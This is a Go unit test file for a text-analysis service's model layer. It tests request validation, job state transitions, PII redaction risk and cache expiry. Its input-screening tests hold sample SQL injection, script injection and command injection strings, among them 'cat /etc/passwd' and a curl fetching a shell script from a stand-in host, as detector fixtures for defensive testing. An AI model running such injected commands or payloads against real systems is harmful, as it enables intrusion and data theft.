//go:build !integration

package model

import (
	"strings"
	"testing"
	"time"
)

// --- AnalysisRequest Tests ---

func TestAnalysisRequest_Validate(t *testing.T) {
	t.Run("should normalize language and options", func(t *testing.T) {
		req, err := AnalysisRequest{Text: "hello", Language: " EN "}.Validate(MaxTextLengthSync)
		if err != nil {
			t.Fatalf("expected no error, but got: %v", err)
		}
		if req.Language != "en" {
			t.Errorf("expected language 'en', but got %q", req.Language)
		}
		if req.Options.Detail != DetailBasic {
			t.Errorf("expected default detail 'basic', but got %q", req.Options.Detail)
		}
	})

	t.Run("should default missing language", func(t *testing.T) {
		req, err := AnalysisRequest{Text: "hola"}.Validate(MaxTextLengthSync)
		if err != nil {
			t.Fatalf("expected no error, but got: %v", err)
		}
		if req.Language != DefaultLanguage {
			t.Errorf("expected default language, got %q", req.Language)
		}
	})

	cases := []struct {
		name string
		req  AnalysisRequest
		max  int
		want ValidationError
	}{
		{"blank text", AnalysisRequest{Text: "   "}, 10, ValidationEmptyText},
		{"malformed utf8", AnalysisRequest{Text: "bad \xff\xfe"}, 10, ValidationMalformedText},
		{"too long", AnalysisRequest{Text: strings.Repeat("a", 11)}, 10, ValidationTextTooLong},
		{"unsupported language", AnalysisRequest{Text: "x", Language: "xx"}, 10, ValidationLanguage},
		{"bad language shape", AnalysisRequest{Text: "x", Language: "en-US"}, 10, ValidationLanguage},
		{"bad detail", AnalysisRequest{Text: "x", Options: Options{Detail: "verbose"}}, 10, ValidationOptions},
		{"sql injection", AnalysisRequest{Text: "x' OR '1'='1"}, 100, ValidationUnsafeText},
		{"script tag", AnalysisRequest{Text: "nice <script>alert(1)</script>"}, 100, ValidationUnsafeText},
	}
	for _, tc := range cases {
		t.Run("should reject "+tc.name, func(t *testing.T) {
			_, err := tc.req.Validate(tc.max)
			if err != tc.want {
				t.Errorf("expected %v, got %v", tc.want, err)
			}
		})
	}

	t.Run("should count runes not bytes", func(t *testing.T) {
		if _, err := (AnalysisRequest{Text: "ééééé"}).Validate(5); err != nil {
			t.Errorf("expected 5 runes to pass a limit of 5, got %v", err)
		}
	})
}

func TestScreenText(t *testing.T) {
	unsafe := []struct {
		text string
		want ThreatKind
	}{
		{"1 UNION SELECT password FROM users", ThreatSQLInjection},
		{"Robert'); DROP TABLE students;--", ThreatSQLInjection},
		{"admin' --", ThreatSQLInjection},
		{"id=1 or 1=1", ThreatSQLInjection},
		{"select * from accounts", ThreatSQLInjection},
		{"<img src=x onerror=alert(1)>", ThreatScriptInjection},
		{"click javascript:alert(document.cookie)", ThreatScriptInjection},
		{"<iframe src=//evil>", ThreatScriptInjection},
		{"great product; cat /etc/passwd", ThreatCommandInjection},
		{"$(whoami)", ThreatCommandInjection},
		{"ok && curl http://x.example/p.sh", ThreatCommandInjection},
	}
	for _, tc := range unsafe {
		t.Run("should flag "+tc.text, func(t *testing.T) {
			got := ScreenText(tc.text)
			if len(got) == 0 || got[0] != tc.want {
				t.Errorf("expected %s, got %v", tc.want, got)
			}
		})
	}

	safe := []string{
		"I love this product, would select it again from any shop",
		"order 12345 shipped; version 1.2.3 costs $19.99",
		"the update was great and the delete button works",
		"my cat and dog both like it | five stars",
		"I'd drop everything for this -- truly",
		"x = y and it is fine",
		"Great service; id buy again",
	}
	for _, text := range safe {
		t.Run("should pass "+text, func(t *testing.T) {
			if got := ScreenText(text); got != nil {
				t.Errorf("expected no threats, got %v", got)
			}
		})
	}

	t.Run("should report each family once", func(t *testing.T) {
		got := ScreenText("' or 1=1 -- <script>x</script> union select 1")
		if len(got) != 2 || got[0] != ThreatSQLInjection || got[1] != ThreatScriptInjection {
			t.Errorf("expected [sql_injection xss], got %v", got)
		}
	})
}

// --- Job Model Tests ---

func newTestJob(n int) *Job {
	items := make([]JobItem, n)
	for i := range items {
		items[i] = JobItem{Text: "t", Language: "en"}
	}
	return NewJob("job-1", "", items, time.Now())
}

func TestJob_Transitions(t *testing.T) {
	t.Run("should allow the forward lifecycle", func(t *testing.T) {
		j := newTestJob(1)
		if !j.Transition(JobStatusProcessing, time.Now()) {
			t.Fatal("expected SUBMITTED -> PROCESSING to be allowed")
		}
		if !j.Transition(JobStatusCompleted, time.Now()) {
			t.Fatal("expected PROCESSING -> COMPLETED to be allowed")
		}
		if j.CompletedAt == nil {
			t.Error("expected CompletedAt to be set on terminal transition")
		}
	})

	t.Run("should never leave a terminal state", func(t *testing.T) {
		terminal := []JobStatus{JobStatusCompleted, JobStatusFailed, JobStatusPartial}
		all := []JobStatus{JobStatusSubmitted, JobStatusProcessing, JobStatusCompleted, JobStatusFailed, JobStatusPartial}
		for _, from := range terminal {
			for _, to := range all {
				j := newTestJob(1)
				j.Status = from
				if j.Transition(to, time.Now()) {
					t.Errorf("expected %s -> %s to be rejected", from, to)
				}
				if j.Status != from {
					t.Errorf("expected status to stay %s, got %s", from, j.Status)
				}
			}
		}
	})

	t.Run("should not skip PROCESSING on the way to success", func(t *testing.T) {
		j := newTestJob(1)
		if j.Transition(JobStatusCompleted, time.Now()) {
			t.Error("expected SUBMITTED -> COMPLETED to be rejected")
		}
		if j.Transition(JobStatusPartial, time.Now()) {
			t.Error("expected SUBMITTED -> PARTIAL to be rejected")
		}
	})
}

func TestJob_ProgressAndFinalStatus(t *testing.T) {
	now := time.Now()
	res := Classification{Label: SentimentPositive, Scores: map[Sentiment]float64{SentimentPositive: 0.9}}

	t.Run("should reach 100 only after every outcome", func(t *testing.T) {
		j := newTestJob(3)
		j.Transition(JobStatusProcessing, now)

		j.RecordSuccess(0, "fp:a", res, false, now)
		if got := j.Progress(); got != 33 {
			t.Errorf("expected progress 33, got %d", got)
		}
		if _, ok := j.FinalStatus(); ok {
			t.Error("expected no final status while items are pending")
		}
		j.RecordFailure(2, "fp:c", "BackendTimeout", "timeout", now)
		if got := j.Progress(); got != 66 {
			t.Errorf("expected progress 66, got %d", got)
		}
		j.RecordSuccess(1, "fp:b", res, true, now)
		if got := j.Progress(); got != 100 {
			t.Errorf("expected progress 100, got %d", got)
		}
		st, ok := j.FinalStatus()
		if !ok || st != JobStatusPartial {
			t.Errorf("expected PARTIAL, got %s (ok=%v)", st, ok)
		}
	})

	t.Run("should complete when all items succeed", func(t *testing.T) {
		j := newTestJob(2)
		j.Transition(JobStatusProcessing, now)
		j.RecordSuccess(0, "fp:a", res, false, now)
		j.RecordSuccess(1, "fp:b", res, false, now)
		if st, _ := j.FinalStatus(); st != JobStatusCompleted {
			t.Errorf("expected COMPLETED, got %s", st)
		}
	})

	t.Run("should be PARTIAL when every item failed", func(t *testing.T) {
		j := newTestJob(2)
		j.Transition(JobStatusProcessing, now)
		j.RecordFailure(0, "fp:a", "BackendTimeout", "timeout", now)
		j.RecordFailure(1, "fp:b", "BackendUnavailable", "down", now)
		if st, ok := j.FinalStatus(); !ok || st != JobStatusPartial {
			t.Errorf("expected PARTIAL, got %s (ok=%v)", st, ok)
		}
	})

	t.Run("should keep outcomes write-once", func(t *testing.T) {
		j := newTestJob(1)
		j.Transition(JobStatusProcessing, now)
		if !j.RecordFailure(0, "fp:a", "BackendUnavailable", "down", now) {
			t.Fatal("expected first outcome to be recorded")
		}
		if j.RecordSuccess(0, "fp:a", res, false, now) {
			t.Error("expected second outcome to be rejected")
		}
	})

	t.Run("should ignore outcomes on terminal jobs", func(t *testing.T) {
		j := newTestJob(2)
		j.Transition(JobStatusProcessing, now)
		j.Transition(JobStatusFailed, now)
		if j.RecordSuccess(0, "fp:a", res, false, now) {
			t.Error("expected outcome on a FAILED job to be rejected")
		}
	})
}

func TestJob_Clone(t *testing.T) {
	j := newTestJob(1)
	j.Transition(JobStatusProcessing, time.Now())
	j.RecordSuccess(0, "fp:a", Classification{Label: SentimentNeutral, Scores: map[Sentiment]float64{SentimentNeutral: 1}}, false, time.Now())

	cp := j.Clone()
	cp.Items[0].Result.Scores[SentimentNeutral] = 0
	if j.Items[0].Result.Scores[SentimentNeutral] != 1 {
		t.Error("expected clone to deep copy item results")
	}
}

// --- Redaction Report Tests ---

func TestRedactionReport_Risk(t *testing.T) {
	if (RedactionReport{}).Risk() != RiskNone {
		t.Error("expected empty report to carry no risk")
	}
	r := RedactionReport{Matches: []PIIMatch{{Category: PIIEmail}}, Counts: map[PIICategory]int{PIIEmail: 1}}
	if r.Risk() != RiskMedium {
		t.Errorf("expected medium risk for email, got %s", r.Risk())
	}
	r.Counts[PIISSN] = 1
	if r.Risk() != RiskCritical {
		t.Errorf("expected critical risk for SSN, got %s", r.Risk())
	}
}

func TestCacheEntry_Expired(t *testing.T) {
	now := time.Now()
	e := &CacheEntry{ExpiresAt: now.Add(time.Minute)}
	if e.Expired(now) {
		t.Error("expected live entry")
	}
	if !e.Expired(now.Add(time.Minute)) {
		t.Error("expected entry to expire exactly at ExpiresAt")
	}
}
